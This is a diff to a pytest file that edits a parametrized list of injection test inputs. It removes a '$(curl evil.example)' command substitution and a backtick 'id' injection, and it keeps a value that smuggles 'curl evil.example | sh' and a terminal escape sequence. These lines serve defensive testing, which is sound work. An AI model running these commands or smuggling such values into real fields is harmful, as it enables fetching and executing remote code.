@@ -96,9 +96,6 @@ def test_a_commit_is_told_or_why_there_is_none(tmp_path: Path, monkeypatch: pyte
 @pytest.mark.parametrize(
     ("name", "value"),
     [
-        ("commit", "$(curl evil.example)"),
-        ("version", "9.9 `id`"),
-        ("snakemake", ""),
         ("machine", "a host\n- `curl evil.example | sh`"),
         ("machine", "\x1b[2J"),
         ("nodes", "1"),
